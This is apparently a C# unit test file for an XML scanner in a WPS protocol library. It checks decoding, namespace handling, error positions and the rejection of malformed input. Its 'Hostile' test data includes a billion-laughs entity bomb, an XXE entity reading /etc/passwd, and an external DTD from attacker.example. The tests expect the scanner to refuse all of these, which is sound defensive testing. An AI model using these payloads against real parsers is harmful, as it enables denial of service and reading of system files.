using System.Text;
using Maap.Algorithms.Protocol.Wps;

namespace Maap.Algorithms.Tests.Protocol.Wps;

public class WpsXmlScannerTests
{
    [Fact]
    public void Predefined_entities_and_character_references_are_decoded()
    {
        Assert.Equal("< > & ' \" A A 😀 é", Text("<r>&lt; &gt; &amp; &apos; &quot; &#65; &#x41; &#x1F600; &#233;</r>"));
    }

    [Fact]
    public void Cdata_sections_comments_and_processing_instructions_inside_text_join_as_text()
    {
        Assert.Equal("a<b>&amp;c]]d", Text("<r>a<![CDATA[<b>&amp;]]><!-- note --><?pi data?>c<![CDATA[]]]]><![CDATA[d]]></r>"));
    }

    [Fact]
    public void Line_ends_are_normalised_but_a_character_reference_to_CR_is_kept()
    {
        Assert.Equal("a\nb\nc\nd\re", Text("<r>a\r\nb\rc<![CDATA[\r\n]]>d&#xD;e</r>"));
    }

    [Fact]
    public void Long_text_with_tabs_newlines_private_use_and_astral_characters_is_accepted()
    {
        var text = string.Concat(Enumerable.Repeat("plain text\tand\nmore \uE000\uFFFD 😀 𝄞 é ", 20));

        Assert.Equal(text, Text("<r>" + text + "</r>"));
        Assert.Equal(text.Replace('\t', ' ').Replace('\n', ' '), AttributeValue("<r a=\"" + text + "\"/>"));
    }

    [Fact]
    public void Many_line_ends_tabs_astral_and_private_use_characters_between_references_read_as_XDocument_reads_them()
    {
        // Runs of unusual characters of every kind, cut by references, ']' and the end of the text or value.
        string[] pieces = ["line", "\n", "\r\n", "\r", "\t", "😀", "𝄞", "\uE000", "\uFFFD", "é", "&amp;", "&#x9;", "&#xD;", "&#x1F600;", "]", "]]", " ", "&lt;", "\n\n\t\t", "\uD83D\uDE00\uE001"];
        var random = new Random(42);
        var raw = new StringBuilder();
        for (var i = 0; i < 5_000; i++)
        {
            raw.Append(pieces[random.Next(pieces.Length)]);
        }

        foreach (var tail in new[] { "", "\n", "\t", "😀", "\uE000", "&amp;", "]" })
        {
            var value = raw + tail;
            var xml = "<r a=\"" + value + "\">" + value + "</r>";
            var expected = System.Xml.Linq.XDocument.Parse(xml, System.Xml.Linq.LoadOptions.PreserveWhitespace).Root!;

            var scanner = new WpsXmlScanner(xml);
            scanner.Read();
            Assert.Equal(expected.Attribute("a")!.Value, scanner.GetAttribute("", "a"));
            Assert.Equal(expected.Value, scanner.ReadElementText());
            scanner.ReadToEndOfDocument();
        }
    }

    [Fact]
    public void Text_and_attribute_values_of_many_lines_read_with_line_ends_normalised()
    {
        var lines = Enumerable.Range(1, 2_000).Select(i => $"\tline {i} 😀 \uE000 \uFFFD");
        var lf = string.Join("\n", lines);

        Assert.Equal(lf, Text("<r>" + lf + "</r>"));
        Assert.Equal(lf, Text("<r>" + string.Join("\r\n", lines) + "</r>"));
        Assert.Equal(lf, Text("<r>" + string.Join("\r", lines) + "</r>"));
        var spaced = lf.Replace('\t', ' ').Replace('\n', ' ');
        Assert.Equal(spaced, AttributeValue("<r a=\"" + lf + "\"/>"));
        Assert.Equal(spaced, AttributeValue("<r a='" + string.Join("\r\n", lines) + "'/>"));
        Assert.Equal(spaced, AttributeValue("<r a=\"" + string.Join("\r", lines) + "\"/>"));
    }

    [Fact]
    public void An_error_after_many_line_ends_is_reported_at_its_own_line_and_column()
    {
        var lines = string.Concat(Enumerable.Repeat("\tframe 😀 \uE000\n", 1_000));
        (string Xml, string Where)[] cases =
        [
            ("<a>" + lines + "  \u0001</a>", "line 1001, column 3"),
            ("<a>\n" + lines + "x]]></a>", "line 1002, column 2"),
            ("<a>" + lines + "x &nbsp;</a>", "line 1001, column 3"),
            ("<a b=\"" + lines + "\u0008\"/>", "line 1001, column 1"),
            ("<a b='" + lines + "  <'/>", "line 1001, column 3"),
            ("<a><!--" + lines + "\u000B--></a>", "line 1001, column 1"),
            ("<a><![CDATA[" + lines + "\uFFFF]]></a>", "line 1001, column 1"),
        ];

        foreach (var (xml, where) in cases)
        {
            var error = Assert.Throws<FormatException>(() => ReadAll(xml));

            Assert.Contains(where, error.Message, StringComparison.Ordinal);
        }
    }

    [Fact]
    public void Unpaired_surrogates_at_either_end_of_a_run_of_text_or_attribute_value_are_a_format_error()
    {
        var lines = string.Concat(Enumerable.Repeat("line\t😀\n", 100));
        string[] cases =
        [
            "<a>" + lines + "\uD83D<b/></a>",
            "<a>" + lines + "\uD83D&amp;</a>",
            "<a>" + lines + "\uD83D]</a>",
            "<a>" + lines + "&amp;\uDE00</a>",
            "<a>" + lines + "]\uDE00</a>",
            "<a>" + lines + "<![CDATA[x]]>\uDE00</a>",
            "<a>" + lines + "\uDE00\uD83D</a>",
            "<a>" + lines + "\uD83D",
            "<a b=\"" + lines + "\uD83D\"/>",
            "<a b=\"" + lines + "\uD83D&amp;\"/>",
            "<a b='" + lines + "&amp;\uDE00'/>",
            "<a b='" + lines + "\uD83D\uD83D\uDE00'/>",
        ];

        foreach (var xml in cases)
        {
            var error = Assert.Throws<FormatException>(() => ReadAll(xml));

            Assert.Contains("is not allowed in XML", error.Message, StringComparison.Ordinal);
        }
    }

    [Fact]
    public void Attribute_values_with_either_quote_are_decoded_and_whitespace_normalised()
    {
        var scanner = new WpsXmlScanner("<r a='x \"q\" &amp; y' b=\"tab\there\r\nnext&#x9;&#xA;kept\"/>");
        scanner.Read();

        Assert.Equal("x \"q\" & y", scanner.GetAttribute("", "a"));
        Assert.Equal("tab here next\t\nkept", scanner.GetAttribute("", "b"));
        Assert.Null(scanner.GetAttribute("", "c"));
        Assert.True(scanner.IsEmptyElement);
        Assert.True(scanner.Read());
        Assert.Equal(WpsXmlNodeType.EndElement, scanner.NodeType);
        Assert.False(scanner.Read());
        Assert.Equal(WpsXmlNodeType.EndOfDocument, scanner.NodeType);
    }

    [Fact]
    public void Prefixed_attributes_resolve_through_their_namespace()
    {
        var scanner = new WpsXmlScanner("""<r xmlns:a="urn:a" xmlns:b="urn:b" b:k="2" a:k="1" k="0" xml:lang="en"/>""");
        scanner.Read();

        Assert.Equal("1", scanner.GetAttribute("urn:a", "k"));
        Assert.Equal("2", scanner.GetAttribute("urn:b", "k"));
        Assert.Equal("0", scanner.GetAttribute("", "k"));
        Assert.Equal("en", scanner.GetAttribute("http://www.w3.org/XML/1998/namespace", "lang"));
    }

    [Fact]
    public void Default_namespace_applies_to_elements_and_can_be_undeclared()
    {
        Assert.Equal(
            "{urn:d}r {urn:d}a {}b {urn:p}c {urn:d}e",
            Elements("""<r xmlns="urn:d"><a><b xmlns=""><p:c xmlns:p="urn:p"/></b></a><e/></r>"""));
    }

    [Fact]
    public void A_rebound_prefix_is_restored_when_its_element_ends()
    {
        Assert.Equal(
            "{urn:1}r {urn:2}a {urn:2}b {urn:1}c",
            Elements("""<x:r xmlns:x="urn:1"><x:a xmlns:x="urn:2"><x:b/></x:a><x:c/></x:r>"""));
    }

    [Fact]
    public void Namespace_uri_with_references_is_decoded()
    {
        Assert.Equal("{urn:a&b}r", Elements("""<p:r xmlns:p="urn:a&amp;b"/>"""));
    }

    [Fact]
    public void Declaration_bom_comments_and_processing_instructions_around_the_root_are_allowed()
    {
        Assert.Equal("{}r", Elements("\uFEFF<?xml version=\"1.0\" encoding=\"utf-8\"?>\n<!-- c -->\n<?pi x?>\n<r/>\n<!-- end -->\n<?pi y?>\n"));
    }

    [Fact]
    public void Sixty_four_levels_of_nesting_are_accepted()
    {
        Assert.Equal(64, Elements(Nested(64)).Split(' ').Length);
    }

    [Fact]
    public void Non_ascii_names_are_accepted()
    {
        Assert.Equal("{}données {}名前 {}a.b-c_d·e", Elements("<données><名前/><a.b-c_d·e/></données>"));
    }

    [Fact]
    public void Element_text_with_a_child_element_is_an_error()
    {
        var error = Assert.Throws<FormatException>(() =>
        {
            var scanner = new WpsXmlScanner("<r>text<child/></r>");
            scanner.Read();
            scanner.ReadElementText();
        });

        Assert.Contains("child", error.Message, StringComparison.Ordinal);
    }

    public static TheoryData<string, string> Hostile() => new()
    {
        { "billion laughs", """<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;"><!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">]><lolz>&lol3;</lolz>""" },
        { "external entity", """<?xml version="1.0"?><!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><foo>&xxe;</foo>""" },
        { "external DTD", """<!DOCTYPE foo SYSTEM "http://attacker.example/evil.dtd"><foo/>""" },
        { "entity declaration in content", """<foo><!ENTITY x "y"></foo>""" },
        { "undefined entity", "<foo>&xxe;</foo>" },
        { "html entity", "<foo>&nbsp;</foo>" },
        { "undefined entity in attribute", "<foo a=\"&xxe;\"/>" },
        { "bare ampersand", "<foo>a & b</foo>" },
        { "unterminated reference", "<foo>&amp</foo>" },
        { "reference to NUL", "<foo>&#0;</foo>" },
        { "reference beyond Unicode", "<foo>&#x110000;</foo>" },
        { "reference to a surrogate", "<foo>&#xD800;</foo>" },
        { "uppercase X in hex reference", "<foo>&#X41;</foo>" },
        { "empty character reference", "<foo>&#;</foo>" },
        { "too deep", Nested(65) },
        { "unclosed element", "<a><b></b>" },
        { "unclosed root", "<a>" },
        { "mismatched end tag", "<a><b></a></b>" },
        { "end tag with another prefix for the same namespace", """<x:a xmlns:x="urn:1" xmlns:y="urn:1"></y:a>""" },
        { "end tag without start", "<a></a></b>" },
        { "undeclared element prefix", "<wps:StatusInfo/>" },
        { "undeclared attribute prefix", "<a b:c=\"1\"/>" },
        { "empty prefixed namespace", "<p:a xmlns:p=\"\"/>" },
        { "declaring xmlns", "<a xmlns:xmlns=\"urn:x\"/>" },
        { "rebinding xml", "<a xmlns:xml=\"urn:x\"/>" },
        { "duplicate attribute", "<a b=\"1\" b=\"2\"/>" },
        { "duplicate expanded attribute", """<a xmlns:p="urn:1" xmlns:q="urn:1" p:b="1" q:b="2"/>""" },
        { "duplicate namespace declaration", """<a xmlns:p="urn:1" xmlns:p="urn:2"/>""" },
        { "junk after root", "<a/>junk" },
        { "second root", "<a/><b/>" },
        { "text before root", "text<a/>" },
        { "empty document", "" },
        { "whitespace only", "  \n " },
        { "comment only", "<!-- nothing -->" },
        { "declaration not at start", " <?xml version=\"1.0\"?><a/>" },
        { "second declaration", "<?xml version=\"1.0\"?><a><?xml version=\"1.0\"?></a>" },
        { "bad name start", "<1a/>" },
        { "two colons", "<a:b:c xmlns:a=\"urn:a\"/>" },
        { "empty local name", "<a: xmlns:a=\"urn:a\"/>" },
        { "leading colon", "<:a/>" },
        { "unquoted attribute", "<a b=c/>" },
        { "attribute without value", "<a b/>" },
        { "attributes without whitespace", "<a b=\"1\"c=\"2\"/>" },
        { "less-than in attribute", "<a b=\"<\"/>" },
        { "unterminated attribute", "<a b=\"1/>" },
        { "unterminated start tag", "<a b=\"1\"" },
        { "bad self-close", "<a / >" },
        { "control character in text", "<a>\u0001</a>" },
        { "control character in attribute", "<a b=\"\u0008\"/>" },
        { "control character deep in a long text", "<a>" + new string('x', 37) + "\u001F" + new string('y', 20) + "</a>" },
        { "control character deep in a long attribute", "<a b=\"" + new string('x', 37) + "\u0000\"/>" },
        { "control character deep in a long comment", "<a><!--" + new string('x', 37) + "\u000B--></a>" },
        { "non-character U+FFFF", "<a>\uFFFF</a>" },
        { "cdata end in text", "<a>]]></a>" },
        { "double hyphen in comment", "<a><!-- a -- b --></a>" },
        { "unclosed comment", "<a><!-- a </a>" },
        { "unclosed cdata", "<a><![CDATA[ a </a>" },
        { "unclosed processing instruction", "<a><?pi </a>" },
        { "cdata outside root", "<![CDATA[x]]><a/>" },
        { "unknown markup declaration", "<a><!ELEMENT a ANY></a>" },
        { "json", "{\"code\": 500}" },
    };

    [Theory]
    [MemberData(nameof(Hostile))]
    public void Hostile_or_malformed_xml_is_a_format_error(string what, string xml)
    {
        var error = Assert.Throws<FormatException>(() => ReadAll(xml));

        Assert.False(string.IsNullOrEmpty(what));
        Assert.Contains("(offset ", error.Message, StringComparison.Ordinal);
    }

    [Fact]
    public void Unpaired_surrogates_are_a_format_error()
    {
        // Not theory data: xunit serialises theory strings as UTF-8, which cannot hold an unpaired surrogate.
        foreach (var xml in new[] { "<a>\uD800</a>", "<a>\uDC00</a>", "<a b=\"\uD800\"/>", "<a>\uD83D", "<a><!-- \uDC00 --></a>", "<a\uD800/>" })
        {
            Assert.Throws<FormatException>(() => ReadAll(xml));
        }
    }

    [Fact]
    public void Dtd_error_says_dtds_are_prohibited()
    {
        var error = Assert.Throws<FormatException>(() => ReadAll("<!DOCTYPE a [<!ENTITY x \"y\">]><a>&x;</a>"));

        Assert.Contains("DTDs are prohibited", error.Message, StringComparison.Ordinal);
    }

    [Fact]
    public void Undefined_entity_error_names_the_entity()
    {
        var error = Assert.Throws<FormatException>(() => ReadAll("<a>\n  &xxe;</a>"));

        Assert.Contains("&xxe;", error.Message, StringComparison.Ordinal);
        Assert.Contains("line 2, column 3", error.Message, StringComparison.Ordinal);
    }

    [Fact]
    public void Oversized_document_is_refused_before_scanning()
    {
        var xml = "<a>" + new string('x', WpsXmlScanner.MaxDocumentLength) + "</a>";

        var error = Assert.Throws<FormatException>(() => new WpsXmlScanner(xml));

        Assert.Contains("characters long", error.Message, StringComparison.Ordinal);
    }

    [Fact]
    public void Readers_refuse_an_oversized_document()
    {
        var xml = """<wps:StatusInfo xmlns:wps="http://www.opengis.net/wps/2.0"><wps:JobID>""" + new string('x', WpsXmlScanner.MaxDocumentLength) + "</wps:JobID></wps:StatusInfo>";

        Assert.Throws<FormatException>(() => WpsReader.ReadStatusInfo(xml));
    }

    [Fact]
    public void Too_many_namespace_declarations_in_scope_is_an_error()
    {
        var builder = new StringBuilder("<a");
        for (var i = 0; i <= WpsXmlScanner.MaxNamespaceDeclarations; i++)
        {
            builder.Append($" xmlns:p{i}=\"urn:{i}\"");
        }

        builder.Append("/>");

        Assert.Throws<FormatException>(() => ReadAll(builder.ToString()));
    }

    private static string? AttributeValue(string xml)
    {
        var scanner = new WpsXmlScanner(xml);
        scanner.Read();
        return scanner.GetAttribute("", "a");
    }

    private static void ReadAll(string xml)
    {
        var scanner = new WpsXmlScanner(xml);
        scanner.ReadToEndOfDocument();
    }

    private static string Text(string xml)
    {
        var scanner = new WpsXmlScanner(xml);
        scanner.Read();
        var text = scanner.ReadElementText();
        scanner.ReadToEndOfDocument();
        return text;
    }

    /// <summary>Every element's expanded name, in document order.</summary>
    private static string Elements(string xml)
    {
        var scanner = new WpsXmlScanner(xml);
        var names = new List<string>();
        while (scanner.Read())
        {
            if (scanner.NodeType == WpsXmlNodeType.StartElement)
            {
                names.Add($"{{{scanner.NamespaceUri}}}{scanner.LocalName}");
            }
        }

        return string.Join(' ', names);
    }

    private static string Nested(int depth) =>
        string.Concat(Enumerable.Repeat("<a>", depth)) + string.Concat(Enumerable.Repeat("</a>", depth));
}
